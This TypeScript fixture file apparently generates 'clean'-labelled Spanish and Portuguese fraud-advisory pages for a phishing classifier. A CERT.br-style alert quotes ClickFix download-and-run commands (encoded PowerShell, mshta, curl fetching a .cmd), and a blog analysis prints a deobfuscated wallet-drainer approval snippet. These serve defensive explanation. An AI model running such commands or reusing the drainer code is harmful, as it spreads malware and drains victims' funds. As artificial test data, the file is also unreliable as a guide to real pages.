import { type Entry } from '../entry.js';
import { doc, favicon, siteHeader, siteFooter, siteCss, esc } from '../parts/yy-kit.js';

const drainerSnippet = esc(`// fragmento desofuscado del kit (resumen)
const SP = '0x7c3a91be0f41d2c8e5a6b9f00d3e1c2b4a5f6e71';
await ethereum.request({ method: 'eth_requestAccounts' });
// approve(spender, type(uint256).max) para cada token con saldo
const data = '0x095ea7b3' + pad(SP) + 'f'.repeat(64);
await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: w, to: USDT, data }] });
// variante NFT: setApprovalForAll(operator, true)
const nft = '0xa22cb465' + pad(SP) + '0'.repeat(63) + '1';`);

export const entries: Entry[] = [
{
  id: 'yy-clean-condusef-alerta-sms-bancarios',
  label: 'clean',
  kind: 'regulator-fraud-advisory',
  url: 'https://www.condusef.gob.mx/?p=contenido&idc=1841&idcat=1',
  body: doc({
    lang: 'es-MX',
    title: 'CONDUSEF alerta sobre mensajes SMS falsos a nombre de bancos',
    head: favicon('#691c32', 'C'),
    css: `${siteCss('#691c32', '"Noto Sans", Arial, sans-serif')}article{background:#fff;padding:34px;margin-top:20px;border-radius:6px}blockquote{background:#f7f1e6;border-left:4px solid #bc955c;margin:14px 0;padding:10px 16px;font-family:monospace;font-size:14px}`,
    body: `<header class="site-header" style="background:#691c32"><div class="wrap"><b style="color:#fff;font-size:20px">CONDUSEF</b><nav><a style="color:#fff" href="/?p=alertas">Alertas</a><a style="color:#fff" href="/?p=quejas">Quejas</a></nav></div></header>
<div class="wrap"><article><h1>CONDUSEF alerta sobre mensajes de texto falsos a nombre de bancos</h1><p><i>Comunicado 118/2025 · Ciudad de México</i></p>
<p>La Comisión Nacional para la Protección y Defensa de los Usuarios de Servicios Financieros (CONDUSEF) alerta a la población sobre una campaña de mensajes SMS y WhatsApp que suplantan a instituciones bancarias para robar datos de acceso. Algunos ejemplos reportados:</p>
<blockquote>BBVA: Se detecto un cargo no reconocido por $8,749.00 en su cuenta. Si no lo reconoce ingrese a: bbvanet-mx[.]aclaracion-cargos[.]online</blockquote>
<blockquote>Santander: su tarjeta ha sido bloqueada por seguridad. Para reactivarla verifique sus datos en sntdr-mx[.]link/c/Rq83f</blockquote>
<blockquote>Banorte Movil: su Token Celular vence hoy. Actualicelo en banorte-movil[.]validacion-segura[.]site</blockquote>
<p>Las páginas a las que llevan estos enlaces imitan la banca en línea y solicitan número de tarjeta, contraseña, token, NIP y CVV. <b>Ninguna institución financiera solicita esta información por mensaje.</b></p>
<h2>Recomendaciones</h2><ul><li>No abras enlaces de mensajes no solicitados.</li><li>Escribe directamente la dirección de tu banco o usa su app oficial.</li><li>Si compartiste datos, llama de inmediato a tu banco para bloquear la tarjeta.</li><li>Reporta el caso en el Portal de Fraudes Financieros de la CONDUSEF.</li></ul></article></div>
${siteFooter('Comisión Nacional para la Protección y Defensa de los Usuarios de Servicios Financieros', ['Transparencia', 'Aviso de privacidad', 'Contacto'], 'Teléfono 55 5340 0999.')}`,
  }),
},
{
  id: 'yy-clean-certbr-alerta-clickfix',
  label: 'clean',
  kind: 'cert-advisory-quoting-commands',
  url: 'https://www.cert.br/alertas/2025/clickfix-captcha-falso/',
  body: doc({
    lang: 'pt-BR',
    title: 'Alerta: golpe do CAPTCHA falso (ClickFix) leva usuários a executar comandos – CERT.br',
    css: `${siteCss('#0b5394', 'Georgia, serif')}article{background:#fff;padding:34px;margin-top:20px}pre{background:#1e1e1e;color:#eee;padding:12px;overflow:auto;font-size:13px;border-radius:4px}.ioc td{font-family:monospace;font-size:13px;padding:4px 10px;border-bottom:1px solid #eee}`,
    body: `<header class="site-header" style="background:#fff"><div class="wrap"><b style="color:#0b5394;font-size:22px">CERT.br</b><nav><a href="/docs">Documentação</a><a href="/alertas">Alertas</a><a href="/stats">Estatísticas</a></nav></div></header>
<div class="wrap"><article><h1>Golpe do CAPTCHA falso (ClickFix) leva usuários a executar comandos no próprio computador</h1><p><i>Publicado em 10/11/2025</i></p>
<p>O CERT.br tem recebido notificações de sites brasileiros comprometidos que exibem uma falsa verificação “Não sou um robô”. Ao clicar na caixa, o site copia silenciosamente um comando para a área de transferência e instrui a vítima a pressionar <b>Windows + R</b>, colar com <b>Ctrl + V</b> e pressionar <b>Enter</b>.</p>
<p>Exemplos de comandos observados (não execute):</p>
<pre>powershell -w hidden -nop -enc JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8A...  # Eu não sou um robô – verificação reCAPTCHA ID 8821</pre>
<pre>mshta hxxps://cdn-verif-captcha[.]top/v/es.hta # ✅ No soy un robot - ID de verificación: 471-228</pre>
<pre>cmd /c curl -s -o %TEMP%\\leitor.cmd hxxps://boletos-online-segunda-via[.]com/fx/leitor.cmd && %TEMP%\\leitor.cmd</pre>
<p>O comentário no final (após o caractere <code>#</code> ou <code>REM</code>) serve para que a caixa “Executar” mostre apenas a frase tranquilizadora. Os comandos baixam trojans bancários e ladrões de senhas.</p>
<h2>Como se proteger</h2><ul><li>Nenhum CAPTCHA legítimo pede para você abrir o “Executar”, o Terminal ou o PowerShell.</li><li>Administradores podem desabilitar a caixa Executar (Win+R) via GPO para usuários comuns.</li><li>Monitore execuções de mshta.exe e powershell.exe com parâmetros -enc iniciadas por explorer.exe.</li></ul>
<table class="ioc"><tr><td>cdn-verif-captcha[.]top</td><td>distribuição HTA</td></tr><tr><td>cdn-cf-verify[.]lat</td><td>stager PowerShell</td></tr><tr><td>meet-audio-fix[.]live</td><td>página falsa do Google Meet</td></tr></table></article></div>`,
  }),
},
{
  id: 'yy-clean-febraban-golpes-pix',
  label: 'clean',
  kind: 'industry-fraud-guide',
  url: 'https://portal.febraban.org.br/noticia/4127/pt-br/golpe-da-falsa-central-e-do-pix-bloqueado',
  body: doc({
    lang: 'pt-BR',
    title: 'Febraban alerta para golpe da falsa central e do “Pix bloqueado”',
    css: `${siteCss('#00305c', 'Arial, sans-serif')}article{background:#fff;padding:32px;margin-top:20px}.msg{background:#dcf8c6;border-radius:8px;padding:10px 14px;max-width:460px;margin:10px 0;font-size:14px}`,
    body: `<header class="site-header" style="background:#00305c"><div class="wrap"><b style="color:#fff;font-size:22px">FEBRABAN</b><nav><a style="color:#fff" href="/noticias">Notícias</a><a style="color:#fff" href="/seguranca">Segurança</a></nav></div></header>
<div class="wrap"><article><h1>Golpe da falsa central e do “Pix bloqueado”: saiba como identificar</h1>
<p>A Federação Brasileira de Bancos alerta para o crescimento de golpes em que criminosos enviam mensagens se passando pelo banco. Exemplos reais recebidos por clientes:</p>
<div class="msg">NUBANK: Seu Pix foi bloqueado. Identificamos uma transferência suspeita de R$ 1.987,00. Para cancelar acesse nu-desbloqueio-pix.com e confirme seus dados.</div>
<div class="msg">CAIXA: Saque FGTS extraordinário liberado para seu CPF. Consulte em caixatem-saquefgts.online</div>
<div class="msg">Olá, aqui é da central de segurança do Itaú. Vamos sincronizar o seu iToken, me informe o código que chegou por SMS.</div>
<p>Em seguida, os golpistas pedem CPF, senha de 4 ou 6 dígitos, dados do cartão ou que a vítima instale um aplicativo de “comprovante” ou de acesso remoto.</p>
<h2>Dicas</h2><ul><li>Bancos não ligam pedindo senha, código de verificação ou para fazer transferências de “teste”.</li><li>Desconfie de links encurtados e domínios diferentes do oficial.</li><li>Na dúvida, desligue e ligue você mesmo para o número do verso do cartão.</li></ul></article></div>`,
  }),
},
{
  id: 'yy-clean-blog-analisis-drainer',
  label: 'clean',
  kind: 'security-blog-drainer-analysis',
  url: 'https://blog.seguridadcripto.lat/2025/11/anatomia-de-un-drainer-recompensas-usdt/',
  body: doc({
    lang: 'es',
    title: 'Anatomía de un drainer: la falsa “recompensa de 250 USDT” – Seguridad Cripto LATAM',
    css: `body{margin:0;font-family:"IBM Plex Sans",Arial;color:#1f2937;background:#fff}header{padding:16px 30px;border-bottom:1px solid #e5e7eb;font-weight:700}article{max-width:760px;margin:26px auto;padding:0 20px;line-height:1.7}
pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:8px;overflow:auto;font-size:13px}.tip{background:#ecfdf5;border:1px solid #a7f3d0;padding:12px;border-radius:8px}`,
    body: `<header>Seguridad Cripto LATAM</header><article><h1>Anatomía de un drainer: la falsa “recompensa de 250 USDT”</h1><p>Esta semana analizamos un sitio que suplantaba a un exchange mexicano y prometía 250 USDT a los primeros 5,000 usuarios. El botón “Conectar billetera y reclamar” no entrega nada: pide firmar transacciones <code>approve</code> ilimitadas.</p>
<pre>${drainerSnippet}</pre>
<p>Una vez aprobada, la dirección del atacante puede llamar <code>transferFrom</code> y vaciar los tokens en cualquier momento, incluso días después. Las variantes más recientes usan firmas <code>Permit</code> (EIP-2612) o <code>PermitBatch</code> de Permit2, que no cuestan gas y por eso parecen “inofensivas”.</p>
<div class="tip"><b>Cómo protegerte:</b> revisa tus aprobaciones en revoke.cash o en el explorador de bloques, y revoca las que no reconozcas. Ningún airdrop legítimo requiere aprobar el gasto ilimitado de tus stablecoins.</div></article>`,
  }),
},
{
  id: 'yy-clean-bancolombia-seguridad',
  label: 'clean',
  kind: 'bank-security-page',
  url: 'https://www.bancolombia.com/personas/documentos-legales/proteccion-datos/seguridad',
  body: doc({
    lang: 'es-CO',
    title: 'Seguridad | Bancolombia',
    head: favicon('#fdda24', 'B'),
    css: `${siteCss('#2c2a29', '"Open Sans", Arial, sans-serif')}.tips{display:grid;grid-template-columns:repeat(2,1fr);gap:18px;margin-top:20px}.tips .card h3{margin-top:0}`,
    body: `${siteHeader('bancolombia', ['Personas', 'Negocios', 'Empresas', 'Ayuda'], '#fdda24')}
<div class="wrap"><h1>Así te protegemos</h1><p>En Bancolombia nunca te pediremos tu clave principal, tu clave dinámica ni los códigos que te llegan por SMS a través de llamadas, correos, redes sociales o enlaces en mensajes de texto.</p>
<div class="tips"><div class="card"><h3>Ingresa siempre desde la fuente</h3><p>Escribe <b>www.bancolombia.com</b> en el navegador o usa la App Mi Bancolombia. La Sucursal Virtual Personas está en <b>sucursalpersonas.transaccionesbancolombia.com</b>.</p></div>
<div class="card"><h3>Desconfía de préstamos “preaprobados”</h3><p>Si te ofrecen un crédito y te piden pagar un seguro o estudio antes del desembolso, es un fraude.</p></div>
<div class="card"><h3>Mensajes falsos frecuentes</h3><p>“Bancolombia le informa que su cuenta será bloqueada, actualice sus datos en…”, “Tiene un reintegro pendiente, ingrese su clave dinámica…”.</p></div><div class="card"><h3>¿Fuiste víctima?</h3><p>Llama a la Sucursal Telefónica 01 8000 912 345 o bloquea tus productos desde la App.</p></div></div></div>
${siteFooter('Bancolombia S.A. Establecimiento Bancario', ['Tasas y tarifas', 'Defensor del consumidor', 'Protección de datos'], 'Vigilado Superintendencia Financiera de Colombia.')}`,
  }),
},
{
  id: 'yy-clean-contpaqi-soporte-powershell',
  label: 'clean',
  kind: 'help-page-paste-command',
  url: 'https://soporte.contpaqi.com/hc/es-419/articles/7712045-reinstalar-servicio-saci-powershell',
  body: doc({
    lang: 'es-MX',
    title: 'Reinstalar el servicio SACI con PowerShell – Centro de ayuda CONTPAQi',
    css: `body{margin:0;font-family:"Segoe UI",Arial;color:#1f2937;background:#f9fafb}.h{background:#1e3a8a;color:#fff;padding:14px 30px}.a{max-width:820px;margin:24px auto;background:#fff;padding:30px;border-radius:8px}
pre{background:#111827;color:#e5e7eb;padding:14px;border-radius:6px;position:relative;overflow:auto}.cp{position:absolute;top:8px;right:8px;background:#374151;color:#fff;border:0;border-radius:4px;padding:4px 10px}.n{background:#eff6ff;padding:10px;border-radius:6px}`,
    body: `<div class="h">CONTPAQi® · Centro de ayuda</div><div class="a"><h1>Reinstalar el servicio SACI con PowerShell</h1><p>Aplica a: CONTPAQi Contabilidad y Nóminas 17.x en Windows 10/11. Ticket relacionado: #4471.</p>
<p>Si al abrir el sistema aparece el error “No se pudo conectar con el servicio SACI”, puedes volver a registrar el servicio:</p>
<ol><li>Cierra todos los sistemas CONTPAQi.</li><li>Haz clic derecho en el botón Inicio y elige <b>Terminal (Administrador)</b>.</li><li>Copia y pega el siguiente comando y presiona Enter:</li></ol>
<pre><code id="c">Stop-Service -Name "SACI" -ErrorAction SilentlyContinue; &amp; "C:\\Program Files (x86)\\Compac\\SACI\\SACIService.exe" /reinstall; Start-Service -Name "SACI"</code><button class="cp" onclick="navigator.clipboard.writeText(document.getElementById('c').innerText)">Copiar</button></pre>
<ol start="4"><li>Abre nuevamente el sistema.</li></ol><p class="n">El comando solo detiene y vuelve a registrar el servicio instalado localmente; no descarga nada de internet. Si tu empresa tiene políticas de TI, pide a tu administrador que lo ejecute.</p></div>`,
  }),
},
];
